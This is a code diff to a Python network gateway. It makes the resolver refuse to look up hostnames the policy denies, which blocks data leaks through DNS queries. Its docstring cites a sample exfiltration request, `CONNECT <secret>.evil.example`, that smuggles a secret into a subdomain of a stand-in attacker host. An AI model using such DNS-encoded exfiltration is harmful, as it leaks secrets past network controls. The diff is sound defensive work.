@@ -417,7 +417,7 @@ class ClientConnection(asyncio.Protocol):
 
     async def _resolve_then(self, ex: Exchange, route: Route) -> None:
         addresses, unresolved = await self._resolve(route.host.name, route.host.ip,
-                                                    route.port)
+                                                    route.port, Kind.HTTP, "http")
         if not self.closed:
             self._decide_http(ex, route, addresses, unresolved)
 
@@ -529,10 +529,22 @@ class ClientConnection(asyncio.Protocol):
             else:
                 self.fail(exc.status, "Bad Gateway", str(exc))
 
-    async def _resolve(self, name: str, ip: IPAddress | None,
-                       port: int) -> tuple[tuple[IPAddress, ...], str]:
+    async def _resolve(self, name: str, ip: IPAddress | None, port: int, kind: Kind,
+                       scheme: str | None = None) -> tuple[tuple[IPAddress, ...], str]:
+        """The addresses to decide with and connect to, or why there are none.
+
+        A name the policy denies whatever it resolves to is never looked up: otherwise a
+        workload could leak data in the DNS query itself (`CONNECT <secret>.evil.example`).
+        The request is then decided on its name (no addresses) and refused.
+        """
         if ip is not None:
             return (ip,), ""
+        gw = self.gw
+        if gw.resolver.known(name) is None and not gw.holder.current.decides_by_address:
+            _, permitted = gw.decide(Request(kind=kind, host=name, port=port, scheme=scheme,
+                                             source=self.source))
+            if not permitted:
+                return (), ""
         try:
             return await self.gw.resolver.resolve(name, port), ""
         except ResolveError as exc:
@@ -590,7 +602,8 @@ class ClientConnection(asyncio.Protocol):
         except InvalidHost:
             host = None
         if host is not None:
-            addresses, unresolved = await self._resolve(host.name, host.ip, port)
+            addresses, unresolved = await self._resolve(host.name, host.ip, port,
+                                                        Kind.CONNECT)
         request = Request(kind=Kind.CONNECT, host=raw_host, port=port, addresses=addresses,
                           source=self.source)
         decision, permitted = self.gw.decide(request)
